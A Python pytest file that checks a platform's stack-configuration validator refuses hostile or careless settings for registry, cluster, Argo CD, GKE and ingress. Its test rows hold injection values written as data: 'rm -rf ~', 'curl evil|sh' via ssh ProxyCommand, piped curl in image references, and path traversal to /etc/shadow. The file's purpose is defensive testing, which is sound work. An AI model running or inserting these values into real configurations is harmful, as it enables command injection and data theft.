"""Hostile and careless settings in the platform's sections (registry, cluster, Argo CD and its applications,
Rollouts, GKE, CI identity, logging), by class: each edit is refused with a message that names the key and says
what is allowed, with nothing registered, and never with a traceback. The rows are written from the models: for
each section, what a value IS (a host, a path inside the project, an image reference, a PEM block, one address,
a private range) and what a stack promises (production)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from components.contracts import namespaces
from tests.stack_config.test_hostile_config import refused
from tests.stack_config.test_loader import run_main
from tools.mock_engine import ROOT, stack_config

DEV = stack_config("dev")
PROD = stack_config("prod")
STACKS = {"dev": DEV, "prod": PROD}
CERTIFICATE = (ROOT / "tests" / "fixtures" / "face.example.com.crt").read_text()


def edit(stack: str, section: str, **changes: Any) -> dict[str, Any]:
    """`kiban:<section>` of `stack` with `changes` merged in."""
    return {f"kiban:{section}": {**STACKS[stack][f"kiban:{section}"], **changes}}


def dev_application(**changes: Any) -> dict[str, Any]:
    (yomu,) = DEV["kiban:argocd"]["applications"]
    return edit("dev", "argocd", applications=[{**yomu, **changes}])


def dev_builds(**changes: Any) -> dict[str, Any]:
    registry = DEV["kiban:registry"]
    return edit("dev", "registry", builds={**registry["builds"], **changes})


def dev_api_server(**changes: Any) -> dict[str, Any]:
    cluster = DEV["kiban:cluster"]
    return edit("dev", "cluster", apiServer={**cluster["apiServer"], **changes})


def prod_cluster(**changes: Any) -> dict[str, Any]:
    return edit("prod", "cluster", **changes)


def prod_network(**changes: Any) -> dict[str, Any]:
    return prod_cluster(network=changes)


# --- an application placed where it must not be ------------------------------------------------------------

PLACEMENT = [
    (dev_application(namespace="kube-system"), "argocd.applications[0].namespace", "'kube-system' belongs to the cluster"),
    (dev_application(namespace="kube-flannel"), "argocd.applications[0].namespace", "belongs to the cluster"),
    (dev_application(namespace="gke-managed-system"), "argocd.applications[0].namespace", "belongs to the cluster"),
    (dev_application(namespace="default"), "argocd.applications[0].namespace", "'default' belongs to the cluster"),
    *[
        (dev_application(namespace=owned), "argocd.applications[0].namespace", f"{owned!r} belongs to kiban itself")
        for owned in sorted(namespaces.PLATFORM)
    ],
    (dev_application(name="default"), "argocd.applications[0].name", "Argo CD's built-in project"),
    (dev_application(name="template1"), "argocd.applications[0].sharedData", "'template1', which the store keeps"),
    (dev_application(name="template0"), "argocd.applications[0].sharedData", "'template0', which the store keeps"),
]


@pytest.mark.parametrize("overrides, key, why", PLACEMENT, ids=[f"{i}" for i in range(len(PLACEMENT))])
def test_an_application_is_never_placed_where_the_platform_or_the_cluster_lives(overrides, key, why):
    refused(overrides, key, why)


# --- values that reach a shell, a file system or a command line --------------------------------------------

COMMAND_LINE = [
    (dev_builds(context="/"), "kiban:registry.builds.context", "is absolute"),
    (dev_builds(context="/home/me/faceapi"), "kiban:registry.builds.context", "is absolute"),
    (dev_builds(context="~/faceapi"), "kiban:registry.builds.context", "is absolute"),
    (dev_builds(context="../../.."), "kiban:registry.builds.context", "no '..'"),
    (dev_builds(context="app/../.."), "kiban:registry.builds.context", "no '..'"),
    (dev_builds(context="."), "kiban:registry.builds.context", "no '..'"),
    (dev_builds(context="app; rm -rf ~"), "kiban:registry.builds.context", "no spaces or shell characters"),
    (edit("dev", "registry", builder="x\x00y"), "kiban:registry.builder", "control character '\\x00'"),
    (edit("dev", "registry", builder="kiban --config=/etc/x"), "kiban:registry.builder", "a buildx builder name"),
    (edit("dev", "registry", sshOptions=["-o", "ProxyCommand=curl evil|sh"]), "kiban:registry.sshOptions", "'ProxyCommand' is not accepted"),
    (edit("dev", "registry", sshOptions=["-oLocalCommand=id"]), "kiban:registry.sshOptions", "'LocalCommand' is not accepted"),
    (edit("dev", "registry", sshOptions=["-o", "KnownHostsCommand=/bin/sh"]), "kiban:registry.sshOptions", "not accepted"),
    (edit("dev", "registry", sshOptions=["-F", "/tmp/evil"]), "kiban:registry.sshOptions", "is not '-o'"),
    (edit("dev", "registry", sshOptions=["-o"]), "kiban:registry.sshOptions", "ends with '-o'"),
    (edit("dev", "registry", sshOptions=["-o", "UserKnownHostsFile=/dev/null; id"]), "kiban:registry.sshOptions", "is not a value"),
    (edit("dev", "registry", ipAddresses=["999.1.1.1"]), "kiban:registry.ipAddresses[0]", "not an IPv4 address"),
    (edit("dev", "images", faceApi="registry.homelab.internal:5000/face-api:latest; curl x|sh"), "kiban:images.faceApi", "is not an image reference"),
    (dev_application(images=[{"alias": "yomu", "image": "yomu:latest && curl x|sh"}]), "images[0].image", "is not an image reference"),
    ({"kiban:faceRecognition": {**DEV["kiban:faceRecognition"], "backend": {"modelPath": "/faceapi/../etc/shadow"}}},
     "kiban:faceRecognition.backend.modelPath", "no '..'"),
    ({"kiban:faceRecognition": {**DEV["kiban:faceRecognition"], "backend": {"modelPath": "model.onnx"}}},
     "kiban:faceRecognition.backend.modelPath", "not an absolute path"),
    ({"kiban:faceRecognition": {**DEV["kiban:faceRecognition"], "backend": {"modelPath": "/faceapi/model.onnx\nx"}}},
     "kiban:faceRecognition.backend.modelPath", "control character '\\n'"),
    (dev_builds(context="a" * 300_000), "kiban:registry.builds.context", "300000 characters is more than any setting holds"),
    (dev_application(path="../../secrets"), "argocd.applications[0].path", "no '..'"),
    (dev_application(path="/etc"), "argocd.applications[0].path", "is absolute"),
]


@pytest.mark.parametrize("overrides, key, why", COMMAND_LINE, ids=[f"{i}" for i in range(len(COMMAND_LINE))])
def test_values_that_reach_a_command_or_a_path_are_checked_by_what_they_are(overrides, key, why):
    refused(overrides, key, why)


def test_a_plain_relative_context_and_safe_ssh_options_pass():
    overrides = {**dev_builds(context="checkouts/faceapi")}
    overrides["kiban:registry"]["sshOptions"] = ["-o", "StrictHostKeyChecking=yes", "-oConnectTimeout=10"]
    assert run_main("dev", overrides).error is None


# --- production's promises ---------------------------------------------------------------------------------

PROMISES = [
    (edit("prod", "images", allowMutableTags=True), "images.allowMutableTags is true"),
    (edit("prod", "argocd", imageUpdater={}), "argocd.imageUpdater is set"),
    (edit("prod", "argocd", autoSync=True, applications=[{**PROD["kiban:argocd"]["applications"][0], "targetRevision": "main"}]),
     "argocd.autoSync is true"),
    ({"kiban:faceRecognition": {**PROD["kiban:faceRecognition"], "backend": {
        **PROD["kiban:faceRecognition"]["backend"], "logLevel": "debug", "allowSensitiveLogs": True}}},
     "faceRecognition.backend.logLevel is 'debug'"),
    ({"kiban:dataSafety": {"protect": False}}, "dataSafety.protect is false"),
    ({"kiban:dataSafety": {"retainVolumes": False}}, "dataSafety.retainVolumes is false"),
]


@pytest.mark.parametrize("overrides, why", PROMISES, ids=[f"{i}" for i in range(len(PROMISES))])
def test_production_refuses_what_it_promises_never_to_do(overrides, why):
    refused(overrides, "environment is production, which refuses", why, stack="prod")


def test_a_stack_that_does_not_say_what_it_is_gets_the_production_rules():
    assert DEV["kiban:environment"] == "development"
    refused({"kiban:environment": None}, "environment is production, which refuses", "images.allowMutableTags is true")


# --- network ranges that would open everything -------------------------------------------------------------

RANGES = [
    (dev_api_server(podCidr="0.0.0.0/0"), "kiban:cluster.apiServer.podCidr", "not a private range for pods"),
    (dev_api_server(podCidr="192.168.0.0/16"), "podCidr 192.168.0.0/16 holds the API server's address"),
    (dev_api_server(podCidr="10.42.0.1/32"), "kiban:cluster.apiServer.podCidr", "between /8 and /24"),
    (dev_api_server(addresses=["0.0.0.0/0"]), "kiban:cluster.apiServer.addresses[0]", "is a range of"),
    (dev_api_server(addresses=["192.168.0.0/24"]), "kiban:cluster.apiServer.addresses[0]", "write 192.168.0.0/32"),
    (dev_api_server(addresses=["192.168.0.41"]), "kiban:cluster.apiServer.addresses[0]", "has no prefix length"),
    (dev_api_server(addresses=["10.42.0.0/16"], podCidr="192.168.0.41/32"), "kiban:cluster.apiServer"),
    (prod_cluster(authorizedNetworks=["0.0.0.0/0"]), "kiban:cluster.authorizedNetworks[0]", "whole internet"),
]


@pytest.mark.parametrize("row", RANGES, ids=[f"{i}" for i in range(len(RANGES))])
def test_network_ranges_are_what_they_say(row):
    overrides, *expected = row
    stack = "prod" if "authorizedNetworks" in overrides["kiban:cluster"] else "dev"
    refused(overrides, *expected, stack=stack)


# --- look-alikes and unvalidated hosts ---------------------------------------------------------------------

HOSTS = [
    (dev_application(repoUrl="https://gith\u0443b.com/TakashiAihara/yomu.git"), "argocd.applications[0].repoUrl", "look-alike"),
    (dev_application(repoUrl="https://github.com/../../etc"), "argocd.applications[0].repoUrl", "not a git repository URL"),
    (dev_application(repoUrl="http://github.com/a/b.git"), "argocd.applications[0].repoUrl", "not a git repository URL"),
    (edit("dev", "argocd", host="face.homelab.internal"), "argocd.host", "is ingress.host"),
    (edit("dev", "argocd", host="argocd.homelab.internal\nX-Injected: 1"), "kiban:argocd.host", "control character"),
    (edit("dev", "argocd", host="ArgoCD.Homelab.Internal"), "kiban:argocd.host", "not a host name"),
    (edit("dev", "argocd", host="192.168.0.41"), "kiban:argocd.host", "is an IP address"),
]


@pytest.mark.parametrize("overrides, key, why", HOSTS, ids=[f"{i}" for i in range(len(HOSTS))])
def test_hosts_and_repositories_are_plain_ascii_names(overrides, key, why):
    refused(overrides, key, why)


# --- what Google or the controllers would refuse later -----------------------------------------------------

LATER = [
    (prod_network(pods="10.10.0.0/16"), "prod", "nodes 10.10.0.0/20 and pods 10.10.0.0/16 overlap"),
    (prod_network(pods="10.10.0.0/14"), "prod", "kiban:cluster.network.pods", "the block it names is 10.8.0.0/14"),
    (prod_network(controlPlane="172.16.0.0/24"), "prod", "not a /28"),
    (prod_network(services="8.8.0.0/20"), "prod", "services: 8.8.0.0/20 is not private"),
    (prod_cluster(maintenanceWindow="25:61"), "prod", "kiban:cluster.maintenanceWindow", "a time of day"),
    (prod_cluster(generalPool={"minNodes": 5, "maxNodes": 3}), "prod", "kiban:cluster.generalPool", "minNodes 5 is above maxNodes 3"),
    (prod_cluster(github={"repository": "../.."}), "prod", "kiban:cluster.github.repository", "owner/name of a GitHub repository"),
    (prod_cluster(github={"repository": "kiban-platform/.."}), "prod", "kiban:cluster.github.repository", "not '.' or '..'"),
    ({"kiban:rollouts": {"analysis": {"count": 3, "failureLimit": 3}}}, "dev", "kiban:rollouts.analysis", "can never be exceeded"),
    ({"kiban:rollouts": {"analysis": {"intervalSeconds": 5, "timeoutSeconds": 5}}}, "dev", "kiban:rollouts.analysis", "not below intervalSeconds"),
    (edit("dev", "ingress", tls={"certificate": "-----BEGIN CERTIFICATE-----\nnot base64 at all!\n-----END CERTIFICATE-----\n"}),
     "dev", "kiban:ingress.tls.certificate", "not a PEM certificate chain"),
    (edit("dev", "ingress", tls={"certificate": "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"}),
     "dev", "kiban:ingress.tls.certificate", "not a DER-encoded certificate"),
    (edit("dev", "ingress", tls={"certificate": CERTIFICATE + "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"}),
     "dev", "kiban:ingress.tls.certificate", "no private key"),
    (edit("dev", "argocd", imageUpdater={"registryCa": "hello"}), "dev", "kiban:argocd.imageUpdater.registryCa", "not a PEM certificate chain"),
]


@pytest.mark.parametrize("row", LATER, ids=[f"{i}" for i in range(len(LATER))])
def test_what_the_cloud_or_a_controller_would_refuse_later_is_refused_now(row):
    overrides, stack, *expected = row
    refused(overrides, *expected, stack=stack)


# --- tracebacks and unclear messages on ordinary mistakes --------------------------------------------------

@pytest.mark.parametrize("path, why", [("", "a file path"), ("~/no/such/kubeconfig", "no file at ~/no/such/kubeconfig")])
def test_a_wrong_kubeconfig_path_is_a_message_not_a_traceback(path, why):
    refused(edit("dev", "cluster", kubeconfig=path), "kiban:cluster.kubeconfig", why)


def test_an_existing_kubeconfig_path_passes(tmp_path: Path):
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text("apiVersion: v1\nkind: Config\n")
    assert run_main("dev", edit("dev", "cluster", kubeconfig=str(kubeconfig))).error is None


@pytest.mark.parametrize("version", [1.35, 1.3, 2])
def test_an_unquoted_version_says_to_quote_it(version):
    refused(edit("dev", "cluster", kubernetesVersion=version), "kiban:cluster.kubernetesVersion", "quote it")


def test_a_yaml_merge_key_names_its_line():
    from stack_config.stack_file import StackFileError, parse_stack_file

    text = (ROOT / "Pulumi.dev.yaml").read_text().replace("  kiban:ingress:\n", "  kiban:ingress:\n    <<: {x: 1}\n")
    with pytest.raises(StackFileError, match=r"Pulumi.dev.yaml line \d+: the merge key `<<:` is YAML 1.1 only"):
        parse_stack_file(text, "Pulumi.dev.yaml")


def test_every_refusal_above_leaves_the_real_stacks_accepted():
    for stack in STACKS:
        assert run_main(stack, {}).error is None


def test_a_region_typo_names_the_region_setting():
    cluster = {k: v for k, v in PROD["kiban:cluster"].items() if k != "gpu"}
    face = PROD["kiban:faceRecognition"]
    cpu_only = {**face, "gpu": False, "backend": {**face["backend"], "onnxRuntime": "cpu"}}
    refused({"kiban:cluster": {**cluster, "region": "asia-northeast9"}, "kiban:faceRecognition": cpu_only},
            "whose region asia-northeast9 comes from cluster.region (if asia-northeast9 is a typo, correct cluster.region)",
            stack="prod")
    # With its GPU pool, the region is checked against the zones that offer the pool's GPUs, naming those regions.
    refused({"kiban:cluster": {**PROD["kiban:cluster"], "region": "asia-northeast9"}}, "no zone of asia-northeast9 offers",
            "asia-northeast1 (a, b, c)", stack="prod")


# --- the smaller sections: timeouts, data safety, shared data, the phase ------------------------------------

SMALL_SECTIONS = [
    ({"kiban:timeouts": {"workloadReadyMinutes": 0}}, "dev", "kiban:timeouts.workloadReadyMinutes", "greater than or equal to 5"),
    ({"kiban:timeouts": {"helmReleaseSeconds": 99999}}, "dev", "kiban:timeouts.helmReleaseSeconds", "less than or equal to 7200"),
    ({"kiban:timeouts": {"helmReleaseSeconds": "soon"}}, "dev", "kiban:timeouts.helmReleaseSeconds", "valid integer"),
    ({"kiban:dataSafety": {"protect": "maybe"}}, "dev", "kiban:dataSafety.protect", "valid boolean"),
    ({"kiban:dataSafety": {"retainVolumes": False}}, "prod", "dataSafety.retainVolumes is false"),
    ({"kiban:sharedData": {"postgres": {"instances": 0}, "valkey": {}}}, "dev", "kiban:sharedData.postgres.instances", "greater than or equal to 1"),
    ({"kiban:sharedData": {"postgres": {}, "valkey": {"maxMemory": "1Gi"}}}, "dev", "kiban:sharedData.valkey", "more than half of resources.limits.memory"),
    ({"kiban:sharedData": {"postgres": {}, "valkey": {}, "mysql": {}}}, "dev", "kiban:sharedData.mysql: unknown key"),
    ({"kiban:phase": "everything"}, "dev", "kiban:phase", "'foundation' or 'workloads'"),
    ({"kiban:environment": "staging"}, "dev", "kiban:environment", "'production' or 'development'"),
]


@pytest.mark.parametrize("row", SMALL_SECTIONS, ids=[f"{i}" for i in range(len(SMALL_SECTIONS))])
def test_the_smaller_sections_refuse_what_they_cannot_take(row):
    overrides, stack, *expected = row
    refused(overrides, *expected, stack=stack)
